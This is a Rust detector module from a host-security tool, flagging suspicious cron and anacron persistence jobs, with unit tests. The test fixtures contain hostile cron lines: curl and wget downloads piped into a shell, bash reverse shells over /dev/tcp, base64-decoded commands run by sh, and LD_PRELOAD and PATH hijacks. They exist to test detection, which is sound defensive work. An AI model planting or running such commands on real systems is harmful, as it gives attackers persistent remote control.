//! Detector: a job of cron or anacron that runs something odd.

use crate::weigh;
use crate::{Card, Detector, Tables};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "cron-job",
        doc: "A job of cron or anacron, or a program in a directory they run, does what ordinary jobs do not.",
        mechanisms: &[46, 115],
        attack: &["T1053.003"],
        why: "It runs again and again by itself, and brings back what was removed.",
        innocent: "you or a colleague made this job, and the program only stands in an unusual place",
        next: "read the job and what it runs; keep both as evidence before removing them",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<crate::Draft>) {
    weigh::scheduled_jobs(tables, &["cron", "anacron", "run-parts"], drafts);
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    const PASSWD: &str = "root:x:0:0::/root:/bin/sh\nme:x:1000:1000::/home/me:/bin/sh\n";

    #[test]
    fn odd_jobs_are_found_in_every_place() {
        for (path, text) in [
            ("/etc/crontab", "SHELL=/bin/sh\n*/5 * * * * root /var/tmp/.cache/u >/dev/null 2>&1\n"),
            ("/etc/cron.d/sysstat2", "@reboot root curl -fsSL http://192.0.2.1/a | bash\n"),
            ("/etc/cron.d/.x", "* * * * * root /dev/shm/k\n"),
            ("/etc/cron.d/pre", "LD_PRELOAD=/tmp/l.so\n1 1 * * * root /usr/bin/true\n"),
            ("/etc/cron.d/path", "PATH=/tmp:/usr/bin\n1 1 * * * root backup\n"),
            ("/var/spool/cron/crontabs/root", "* * * * * /usr/local/sbin/upd\n"),
            ("/var/spool/cron/crontabs/me", "*/1 * * * * echo aWQK|base64 -d|sh\n"),
            ("/var/spool/cron/tabs/root", "* * * * * sh%/tmp/y\n"),
            (
                "/var/spool/cron/root",
                "REDIS0006\u{1}\u{2}\n\n* * * * * wget -q -O - http://192.0.2.1/x|sh\n\n",
            ),
            ("/var/spool/cron/crontabs/root", "* * * * * /usr/local/sbin/z;\r* * * * * true\n"),
            ("/etc/anacrontab", "1 5 x /bin/bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n"),
        ] {
            let script = "#!/bin/sh\nbash -c \"$(curl -s http://192.0.2.1/z)\"\n";
            let seen = check(
                Mem::new().file("/etc/passwd", PASSWD).file("/usr/local/sbin/upd", script).file(path, text),
            );
            let found = seen.alarms("cron-job");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
    }

    #[test]
    fn odd_scripts_in_run_parts_directories_are_found() {
        for text in
            ["#!/bin/sh\nset -e\n/tmp/x\n", "#!/bin/bash\nexec 5<>/dev/tcp/192.0.2.1/1\nbash <&5 >&5\n"]
        {
            let path = "/etc/cron.daily/logrotate";
            let seen = check(Mem::new().file(path, text).owned(path, 0o755, 0, 0));
            assert_eq!(seen.alarms("cron-job").len(), 1, "{:#?}", seen.findings);
        }
    }

    #[test]
    fn what_packages_and_administrators_do_is_no_alarm() {
        let apt = "#!/bin/sh\nset -e\ncheck_power() { if which on_ac_power >/dev/null 2>&1; then on_ac_power; fi }\n[ -x /usr/lib/apt/apt.systemd.daily ] || exit 0\nexec /usr/lib/apt/apt.systemd.daily\n";
        let seen = check(
            Mem::new()
                .file("/etc/passwd", PASSWD)
                .file("/etc/crontab", "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts /etc/cron.daily; }\n")
                .file("/etc/cron.daily/apt-compat", apt)
                .owned("/etc/cron.daily/apt-compat", 0o755, 0, 0)
                .file("/etc/cron.daily/.placeholder", "# DO NOT EDIT\n")
                .file("/usr/local/bin/backup", "#!/bin/sh\ncd /tmp\ntar czf b.tgz /etc && mv b.tgz /srv/\n")
                .file("/var/spool/cron/crontabs/root", "# m h\n0 3 * * * /usr/local/bin/backup 2>&1 | logger\n@daily \"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null\n*/5 * * * * curl -fsS https://hc.example.org/x > /dev/null\n")
                .file("/home/me/bin/sync", "#!/bin/sh\nrsync -a /home/me/ b:\n")
                .owned("/home/me/bin/sync", 0o755, 1000, 1000)
                .file("/var/spool/cron/crontabs/me", "@hourly /home/me/bin/sync # date +\\%F\n"),
        );
        assert!(seen.by("cron-job").is_empty(), "{:#?}", seen.findings);
    }
}
